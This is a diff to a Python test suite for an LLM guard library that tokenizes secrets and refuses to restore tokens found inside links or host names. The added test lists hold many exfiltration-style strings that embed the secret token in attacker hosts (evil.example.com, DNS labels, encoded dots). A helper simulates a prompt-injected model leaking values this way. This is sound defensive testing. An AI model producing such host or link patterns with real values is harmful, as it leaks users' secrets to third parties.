@@ -21,7 +21,7 @@ from hypothesis import strategies as st
 
 import aiguard
 from _sdk_policy import one_event, openai_and_anthropic_policy, openai_client
-from aiguard.doors.streaming import TokenRestorer
+from aiguard.doors.streaming import HoldBack, TokenRestorer
 from aiguard.testing import (
     Answer,
     FakeModel,
@@ -30,7 +30,15 @@ from aiguard.testing import (
     assert_chain_valid,
     assert_no_raw_values,
 )
-from aiguard.vault.tokens import LINK_REACH, TOKEN_RE, in_link, restore_in_context
+from aiguard.vault.tokens import (
+    HOST_REACH,
+    LINK_REACH,
+    TOKEN_RE,
+    in_host,
+    in_link,
+    may_hold_links,
+    restore_in_context,
+)
 
 openai = pytest.importorskip("openai")
 anthropic = pytest.importorskip("anthropic")
@@ -55,6 +63,23 @@ IN_LINKS = [
     f'<img\n  src="{EVIL}/p.png\n?d={TOKEN}">',
     f"see www.evil.example/?q={TOKEN}",
     f"preview evil.example?q={TOKEN}",
+    # A bare host's path or query, no scheme: chat apps link and preview it.
+    f"see evil.example.com/c/{TOKEN}",
+    f"see evil.example.com:8080/{TOKEN}.png",
+    '{"u": "evil.example.com\\/' + TOKEN + '"}',
+    # The token as a label of a host name: its original goes out in the DNS query.
+    f"ping {TOKEN}.evil.example.com",
+    f"{TOKEN}.evil.example.com.",
+    f"see {TOKEN}-x.evil.co.uk/pixel.png",
+    f"see [ACCOUNT_7Q2KX9M4T1B8C].{TOKEN}.evil.example.com",
+    f"see {TOKEN}.[ACCOUNT_7Q2KX9M4T1B8C].evil.example.com",
+    f"{TOKEN}\\u002eevil\\u002eexample\\u002ecom",
+    f"{TOKEN}&#46;evil.example.com",
+    f"{TOKEN}.attacker.github.io",
+    f"{TOKEN}_x.evil.example.com",
+    f"see {TOKEN}.evil.example.com[1]",
+    f"{TOKEN}.a.xn--p1ai",
+    TOKEN + "." + "a" * 300,
 ]
 NOT_IN_LINKS = [
     TOKEN,
@@ -70,17 +95,39 @@ NOT_IN_LINKS = [
     f"Is that right? Yes: {TOKEN}",
     f"a=b, c=d {TOKEN}",
     f"<b>{EVIL}</b>\n{TOKEN}",
+    f"Write to {TOKEN}. Thanks",
+    f"Write to {TOKEN}.\nThanks",
+    f"It is {TOKEN}.com",
+    f"mail {TOKEN}, e.g. {TOKEN}.e.g.",
+    f"v1.2/{TOKEN}",
+    f"{TOKEN}'s account",
+    f"{TOKEN}s",
+    f"{TOKEN}-x.com",
+    f"{TOKEN}.evil.2x",
+    f"{TOKEN}.co.uk and {TOKEN}.github.io",
+    f"{TOKEN}.evil.example",
+    f"return {TOKEN}.path.join(root, name)",
+    f"see {TOKEN}.report.pdf",
+    f"{TOKEN}.meta.client.download_fileobj(bucket)",
+    f"{TOKEN}.evil.example.com_x",
 ]
+
+
+def _in_link(text: str, at: int | None = None) -> bool:
+    at = text.index(TOKEN) if at is None else at
+    return in_link(text, at, at + len(TOKEN))
 
 
 @pytest.mark.parametrize("text", IN_LINKS)
 def test_a_token_in_a_url_stands_in_a_link(text: str) -> None:
-    assert in_link(text, text.index(TOKEN))
+    assert _in_link(text)
+    assert restore_in_context(text, {TOKEN: ORIGINAL}.get, lambda _t: None) == text
 
 
 @pytest.mark.parametrize("text", NOT_IN_LINKS)
 def test_a_token_beside_a_url_does_not(text: str) -> None:
-    assert not in_link(text, text.index(TOKEN))
+    assert not any(_in_link(text, m.start()) for m in TOKEN_RE.finditer(text))
+    assert TOKEN not in restore_in_context(text, {TOKEN: ORIGINAL}.get, lambda _t: None)
 
 
 # Prose that holds no URL and no token: no slash, backslash, entity, query, "www.",
@@ -118,6 +165,46 @@ def test_a_token_glued_to_a_url_stands_in_it(before: str, url: str, after: str) 
 def test_a_break_after_a_url_ends_the_link(before: str, url: str, brk: str, middle: str) -> None:
     text = f"{before} {url}{brk}{middle}{TOKEN}"
     assert not in_link(text, text.index(TOKEN))
+
+
+_LABEL = st.from_regex(r"[a-z0-9]([a-z0-9-]{0,10}[a-z0-9])?", fullmatch=True)
+# Domains under public suffixes (the Public Suffix List's, as the attacker's must be).
+_TLD = st.sampled_from(["com", "net", "org", "io", "co.uk", "de", "xn--p1ai", "github.io"])
+# What ends a host name: anything but a label's character, a dot or what writes one.
+_HOST_END = st.sampled_from([" ", "/", ":", "?", ")", '"', "'", "\n", ",", "!", "", "\u00e9"])
+
+
+@settings(max_examples=300)
+@given(
+    before=_PROSE,
+    glue=st.sampled_from([".", "x.", "-x.", "-x-y."]),
+    labels=st.lists(_LABEL, min_size=1, max_size=4),
+    tld=_TLD,
+    end=_HOST_END,
+    after=_PROSE,
+)
+def test_a_token_glued_into_a_host_name_stands_in_it(
+    before: str, glue: str, labels: list[str], tld: str, end: str, after: str
+) -> None:
+    """Any name that holds a registrable domain after the token makes it a label of it."""
+    host = glue + ".".join(labels) + "." + tld
+    text = f"{before} {TOKEN}{host}{end}{after if end else ''}"
+    at = len(before) + 1
+    assert _in_link(text, at)
+    assert restore_in_context(text, {TOKEN: ORIGINAL}.get, lambda _t: None) == text
+
+
+@settings(max_examples=300)
+@given(
+    before=_PROSE, end=_HOST_END, after=_PROSE, word=st.from_regex(r"[a-z]{0,12}", fullmatch=True)
+)
+def test_one_label_or_none_after_a_token_is_no_host(
+    before: str, end: str, after: str, word: str
+) -> None:
+    """Prose after a token ("[T]. Thanks", "[T].com", "[T]s") does not keep it: no name
+    the writer could own holds the value."""
+    text = f"{before} {TOKEN}{'.' if word else ''}{word}{end}{after}"
+    assert not _in_link(text, len(before) + 1)
 
 
 # -- streamed: a channel cut anywhere restores as the whole text does ------------------
@@ -158,6 +245,103 @@ def test_pieces_keep_links_as_the_whole_text_does(
         links = [m.start() for m in TOKEN_RE.finditer(text) if in_link(text, m.start())]
         assert len(kept_whole) == len(links)
         assert whole.count(ORIGINAL) == len(TOKEN_RE.findall(text)) - len(links)
+
+
+_HOST_PARTS = st.lists(
+    st.sampled_from(
+        [
+            *[TOKEN] * 3,
+            ".evil.example.com",
+            "-x.evil.example.com",
+            ".evil",
+            ".",
+            ".com",
+            "example",
+            "-",
+            " ",
+            "\n",
+            "/",
+            '"',
+            "[",
+            "\\u002e",
+            "é",
+            "a" * 120,
+        ]
+    ),
+    max_size=16,
+)
+
+
+@settings(max_examples=300)
+@given(
+    parts=_HOST_PARTS,
+    at_parts=st.lists(st.booleans(), max_size=16),
+    cuts=st.lists(st.integers(0, 300), max_size=6),
+    json_text=st.booleans(),
+)
+def test_a_stream_cut_anywhere_keeps_host_labels_as_the_whole_text_does(
+    parts: list[str], at_parts: list[bool], cuts: list[int], json_text: bool
+) -> None:
+    """A real channel (the hold-back before the restore) cut at any offsets, even right
+    after a token or inside one, keeps and restores exactly the tokens the whole text
+    does: a token is held while what follows may still make it a host's label."""
+    text = "".join(parts)
+    # Cuts between parts (right after a token, most often) and anywhere else.
+    ends = list(itertools.accumulate(len(part) for part in parts))
+    cuts = cuts + [end for end, cut in zip(ends, at_parts, strict=False) if cut]
+    kept: list[str] = []
+
+    def keep(token: str) -> None:
+        kept.append(token)
+
+    restorer = TokenRestorer({TOKEN: ORIGINAL}.get, link_lookup=keep)
+    whole = restorer.in_context(json_text)(text)
+    kept_whole, kept[:] = list(kept), []
+    hold = HoldBack(restorer.in_context(json_text))
+    bounds = sorted({min(c, len(text)) for c in cuts} | {0, len(text)})
+    out = [hold.feed(text[start:end]) for start, end in itertools.pairwise(bounds)]
+    out.append(hold.flush())
+    assert "".join(out) == whole
+    assert kept == kept_whole
+    if not json_text:
+        hosts = [m for m in TOKEN_RE.finditer(text) if in_host(text, m.end())]
+        assert len(kept_whole) >= len(hosts)
+
+
+@settings(max_examples=500)
+@given(parts=_HOST_PARTS, json_text=st.booleans())
+def test_text_the_link_gate_passes_by_holds_no_token_in_a_link(
+    parts: list[str], json_text: bool
+) -> None:
+    """`may_hold_links` is the gate that skips the link checks for most answers: a text
+    it says no to has no token in a link or a host name."""
+    text = "".join(parts)
+    if not may_hold_links(text):
+        assert not any(in_link(text, m.start(), m.end()) for m in TOKEN_RE.finditer(text))
+
+
+@pytest.mark.parametrize(
+    ("text", "restored"),
+    [
+        (
+            f"see {TOKEN}." + "a" * (HOST_REACH + 5) + f".evil.example.com and {TOKEN}",
+            f"see {TOKEN}." + "a" * (HOST_REACH + 5) + f".evil.example.com and {ORIGINAL}",
+        ),
+        # The first token's run is longer than the reach only with the held one in it:
+        # the piece released before the held token is read with what is held after it.
+        (
+            f"{TOKEN}" + "a" * 200 + TOKEN + "a" * 100 + " end",
+            f"{TOKEN}" + "a" * 200 + ORIGINAL + "a" * 100 + " end",
+        ),
+    ],
+)
+@pytest.mark.parametrize("size", [1, 7, 64])
+def test_a_long_host_run_keeps_its_token_across_pieces(text: str, restored: str, size: int) -> None:
+    restorer = TokenRestorer({TOKEN: ORIGINAL}.get, link_lookup=lambda _t: None)
+    assert restorer.in_context(False)(text) == restored
+    hold = HoldBack(restorer.in_context(False))
+    out = "".join(hold.feed(text[i : i + size]) for i in range(0, len(text), size))
+    assert out + hold.flush() == restored
 
 
 def test_a_link_longer_than_the_reach_keeps_its_token_across_pieces() -> None:
@@ -222,6 +406,28 @@ def test_openai_chat_keeps_the_token_in_an_image_link(chunk_size: int | None) ->
     _link_kept(answer)
     event = one_event(sink)
     assert event["links_kept"] == 1 and event["status"] == "ok"
+
+
+def _exfiltrating_by_host(payload: dict[str, Any]) -> str:
+    """An injected model that needs no scheme: the value as a DNS label, and a bare
+    host's path (chat apps link and preview both)."""
+    found = TOKEN_RE.search(json.dumps(payload))
+    assert found is not None, "the request reached the model with its value raw"
+    token = found.group(0)
+    return f"See {token}.evil.example.com and evil.example.com/c/{token}. I wrote to {token}."
+
+
+@pytest.mark.parametrize("chunk_size", [None, 1, 3, 7])
+def test_openai_chat_keeps_a_token_that_is_a_host_label(chunk_size: int | None) -> None:
+    sink = InMemorySink()
+    guard = aiguard.Guard(_policy(), sinks=[sink])
+    fake = FakeModel(reply=_exfiltrating_by_host, chunk_size=chunk_size or 4)
+    answer = _askopenai_client(guard, fake, stream=chunk_size is not None)
+    kept = TOKEN_RE.findall(answer)
+    assert len(kept) == 2 and answer.endswith(f"I wrote to {ORIGINAL}."), answer
+    assert answer.count(ORIGINAL) == 1
+    event = one_event(sink)
+    assert event["links_kept"] == 2 and event["status"] == "ok"
 
 
 @pytest.mark.parametrize("stream", [False, True])
